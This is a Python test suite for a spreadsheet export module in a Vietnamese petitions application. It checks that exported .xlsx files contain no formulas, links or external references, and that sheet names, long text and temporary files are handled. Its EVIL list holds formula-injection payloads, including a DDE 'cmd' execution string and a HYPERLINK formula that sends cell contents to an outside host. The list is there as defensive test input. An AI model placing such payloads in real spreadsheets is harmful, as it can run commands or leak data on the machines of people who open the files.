"""The .xlsx files lists and reports leave as."""

from __future__ import annotations

import os
import zipfile
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from petitions.documents.tables import CELL_LIMIT, Cell, Head, Sheet, sheet_name, workbook

MADE = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
EVIL = (
    '=HYPERLINK("http://x.vn/"&A1,"bấm")', "=1+1", "+84912345678", "-1", "@SUM(A1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "  =1+1", "=cmd|'/c calc'!A0", "http://x.vn/", "https://x.vn/a", "mailto:a@x.vn",
    "internal:Sheet2!A1", r"external:c:\x.xlsx", "{=1+1}", "'=1+1", "_x003D_1+1", "_x0041_", "%0A=1",
    "1e5", "0123", "TRUE", "#N/A", "<b>&\"'", "a\x00b\x1fc\ufffe", "\ud800x", "🏠", "=",
)  # fmt: skip


def bytes_of(tmp_path: Path, *sheets: Sheet) -> bytes:
    """A finished file."""
    with workbook(sheets, made=MADE, folder=tmp_path / "var") as file:
        assert not list((tmp_path / "var").iterdir())  # nothing stays behind
        return file.read()


def cells(data: bytes, sheet: int = 0) -> list[list[Any]]:
    """What a spreadsheet reads."""
    book = openpyxl.load_workbook(BytesIO(data), data_only=False)
    return [list(row) for row in book.worksheets[sheet].iter_rows(values_only=True)]


def test_a_cell_is_text_a_number_or_a_day(tmp_path: Path) -> None:
    """And empty ones stay empty."""
    heads = [Head("Mã"), Head("Số"), Head("Ngày"), Head("Trống")]
    row: list[Cell] = ["AB-2026-000001-1", 12, date(2026, 11, 20), None]
    found = cells(bytes_of(tmp_path, Sheet("Danh sách", heads, [row])))
    assert found == [
        ["Mã", "Số", "Ngày", "Trống"],
        ["AB-2026-000001-1", 12, datetime(2026, 11, 20), None],
    ]
    with pytest.raises(TypeError):
        bytes_of(tmp_path, Sheet("x", heads, [[True]]))


def test_nothing_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
    """Not when opened, not when edited, in heads as little as in cells."""
    data = bytes_of(
        tmp_path, Sheet("=1+1", [Head(text) for text in EVIL], [EVIL, *([text] for text in EVIL)])
    )
    _harmless(data)
    book = openpyxl.load_workbook(BytesIO(data))
    for row in book.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "inlineStr", "n"}, cell.value
            assert cell.value is None or isinstance(cell.value, str)
            assert cell.value is None or cell.number_format == "@"
            if cell.row > 1 and str(cell.value or "").lstrip(" ").startswith(
                ("=", "+", "-", "@", "\t", "\r")
            ):
                assert cell.quotePrefix, cell.value
    first = [value for value in cells(data)[1] if value is not None]
    assert first[0] == EVIL[0]
    assert "_x005F_x0041_" in first  # how the format spells it, so that it is not read as A


@settings(max_examples=60)
@given(st.lists(st.lists(st.text(max_size=40), min_size=1, max_size=4), max_size=6), st.text())
def test_any_text_makes_a_well_formed_file(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], name: str
) -> None:
    """Whatever people typed, a spreadsheet reads it back as the text it was."""
    data = bytes_of(tmp_path_factory.mktemp("x"), Sheet(name, [Head("A")] * 4, rows))
    _harmless(data)
    for typed, row in zip(rows, cells(data)[1:], strict=True):
        for text, value in zip(typed, row, strict=False):
            plain = "".join(c for c in text if c.isprintable() and c != "\ufffe")
            read = "".join(c for c in value or "" if c.isprintable())
            assert read == plain or not plain.isascii() or "_x" in plain


def test_sheets_have_names_a_spreadsheet_takes() -> None:
    """No reserved signs, at most 31 characters, each once, whatever its case."""
    assert sheet_name("Sổ [2026]: a/b\\c*?") == "Sổ 2026 a b c"
    assert sheet_name("") == sheet_name("''") == sheet_name("\x00") == "Bảng"
    assert sheet_name("History") == "History 1"
    long = sheet_name("Ủy ban nhân dân phường Trường Sa và các vùng phụ cận")
    assert len(long) <= 31
    assert sheet_name("Danh sách", ["danh SÁCH"]) == "Danh sách 2"
    taken: list[str] = []
    for _ in range(12):
        taken.append(sheet_name("Ủy ban nhân dân phường Trường Sa và các vùng phụ cận", taken))
    assert len({name.casefold() for name in taken}) == 12
    assert all(len(name) <= 31 for name in taken)


def test_long_text_is_cut_not_lost(tmp_path: Path) -> None:
    """The format holds 32,767 characters; more would leave the cell empty without a word."""
    (_, row) = cells(bytes_of(tmp_path, Sheet("x", [Head("A")], [["đ" * 40_000]])))
    assert row == ["đ" * CELL_LIMIT]


def test_rows_are_taken_as_they_come(tmp_path: Path) -> None:
    """Twenty thousand rows from a generator, with two sheets."""
    rows = ([f"HS {number}", number] for number in range(20_000))
    data = bytes_of(
        tmp_path,
        Sheet("Danh sách", [Head("Mã"), Head("Số")], rows),
        Sheet("Cách lập", [Head("Mục"), Head("Giá trị")], [["Số hồ sơ", 20_000]]),
    )
    assert len(cells(data)) == 20_001
    assert cells(data, 1) == [["Mục", "Giá trị"], ["Số hồ sơ", 20_000]]


def test_a_row_that_fails_leaves_nothing(tmp_path: Path) -> None:
    """The working files go with the failure."""

    def rows() -> Any:
        yield ["a"]
        raise RuntimeError

    with pytest.raises(RuntimeError):
        bytes_of(tmp_path, Sheet("x", [Head("A")], rows()))
    assert not list((tmp_path / "var").iterdir())


def test_what_a_killed_process_left_is_removed(tmp_path: Path) -> None:
    """A day later, and not while another process may still be writing."""
    folder = tmp_path / "var"
    old, young = folder / "table-old", folder / "table-young"
    for place, age in ((old, 25), (young, 1)):
        place.mkdir(parents=True)
        (place / "rows").write_text("x")
        then = (MADE - timedelta(hours=age)).timestamp()
        os.utime(place, (then, then))
    workbook([Sheet("x", [Head("A")], [["a"]])], made=MADE, folder=folder).close()
    assert [place.name for place in folder.iterdir()] == ["table-young"]


def _harmless(data: bytes) -> None:
    """No formula, no link, no relation to the outside in any part; every part is well-formed."""
    with zipfile.ZipFile(BytesIO(data)) as parts:
        for name in parts.namelist():
            tree = etree.fromstring(parts.read(name))
            tags = {
                etree.QName(each).localname for each in tree.iter() if isinstance(each.tag, str)
            }
            assert not tags & {"f", "hyperlink", "hyperlinks", "externalReference", "ddeLink"}, name
            assert "externalLink" not in name
            if name.endswith(".rels"):
                assert b"TargetMode" not in parts.read(name)
